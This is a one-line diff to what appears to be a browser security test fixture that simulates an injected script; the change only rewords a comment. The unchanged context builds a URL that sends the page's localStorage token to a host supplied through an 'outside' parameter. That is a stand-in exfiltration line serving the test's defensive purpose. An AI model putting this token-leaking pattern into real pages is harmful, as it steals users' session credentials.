@@ -1,4 +1,4 @@
-// Runs in the page as a script of its own origin: what a fault of ours might let in. Whatever gets through pushes its name onto `taken`.
+// Runs in the page as a script from its own origin: what a fault of ours might let in. Whatever gets through pushes its name onto `taken`.
 window.taken = []
 const outside = new URL(import.meta.url).searchParams.get('outside')
 const leak = `${outside}/?token=${encodeURIComponent(localStorage.getItem('token'))}`
